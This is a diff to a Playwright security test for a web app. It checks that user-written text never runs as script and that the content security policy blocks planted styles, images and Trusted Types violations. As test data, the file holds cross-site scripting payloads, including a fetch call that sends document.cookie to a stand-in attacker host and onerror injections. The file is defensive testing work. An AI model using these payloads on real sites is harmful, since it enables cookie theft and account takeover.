@@ -2,7 +2,7 @@ import { expect, test, type Page } from '@playwright/test';
 import { letCustomerWrite, PASSWORD, signIn } from './support';
 
 // What anybody may write, in the places that show it: no script runs, nobody is called, and nothing is stopped by the last
-// wall (the content security policy) only.
+// wall (the content security policy) only. No screen of ours needs what that wall forbids.
 
 const CALL = `fetch('https://mal.exemplo/'+document.cookie)`;
 const HOSTILE = [
@@ -38,6 +38,16 @@ const HOSTILE = [
   `*<b>_<i onclick=${CALL}>~a~</i>_</b>* \`<script>${CALL}</script>\` \`\`\`</code><script>${CALL}</script>\`\`\``,
   `&lt;script&gt;${CALL}&lt;/script&gt; &#60;script&#62; %3Cscript%3E \u003cscript\u003e ＜script＞`,
   `<img src=x\u0000onerror=${CALL}> <img/src/onerror=${CALL}> <IMG SRC=x OnErRoR=${CALL}>`.replace('\u0000', '\u200b'),
+];
+/** Screens that the settings do not lead to. */
+const OTHER_SCREENS = [
+  '/supervisao',
+  '/comecar',
+  '/cadastro',
+  '/esqueci-minha-senha',
+  '/redefinir-senha#nada',
+  '/convite#nada',
+  '/avaliacao/nada',
 ];
 /** Short enough for names. */
 const NAME = `"><img src=//mal.exemplo/a onerror=alert(1)>`;
@@ -106,8 +116,13 @@ test('what anybody writes stays text wherever it is shown', async ({ page, baseU
     scope: 'own',
     password: PASSWORD,
   });
-  for (const path of ['equipes', 'funcoes', 'auditoria', 'seguranca', 'privacidade']) {
-    await page.goto(`/configuracoes/${path}`);
+  await page.goto('/configuracoes');
+  const sections = page.getByRole('link').and(page.locator('a[href^="/configuracoes/"]'));
+  await expect(sections.first()).toBeVisible();
+  const screens = await sections.evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''));
+  expect(screens.length).toBeGreaterThan(15);
+  for (const path of [...screens, ...OTHER_SCREENS]) {
+    await page.goto(path);
     await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
     await expect(page.getByRole('status', { name: 'Carregando…' })).toHaveCount(0);
   }
@@ -126,7 +141,23 @@ test('what anybody writes stays text wherever it is shown', async ({ page, baseU
   await call('POST', `${conversation}/resolve`, {});
   expect(seen).toEqual([]);
 
-  // A planted one is seen.
-  await page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<img src=https://mal.exemplo/a.png>'));
-  await expect.poll(() => seen.length).toBeGreaterThan(0);
+  // Planted ones are stopped, each by its own wall, and seen.
+  const planted = {
+    'require-trusted-types-for': () => document.body.insertAdjacentHTML('beforeend', '<b>a</b>'),
+    'trusted-types': () => {
+      const { trustedTypes } = window as unknown as {
+        trustedTypes: { createPolicy: (name: string, rules: object) => void };
+      };
+      trustedTypes.createPolicy('a', {});
+    },
+    'style-src-attr': () => document.body.setAttribute('style', 'color: red'),
+    'style-src-elem': () => {
+      document.head.append(Object.assign(document.createElement('style'), { textContent: 'b { color: red }' }));
+    },
+    'img-src': () => document.body.append(Object.assign(new Image(), { src: 'https://mal.exemplo/a.png' })),
+  };
+  for (const [directive, plant] of Object.entries(planted)) {
+    await page.evaluate(plant).catch(() => undefined);
+    await expect.poll(() => seen.join('\n')).toContain(directive);
+  }
 });
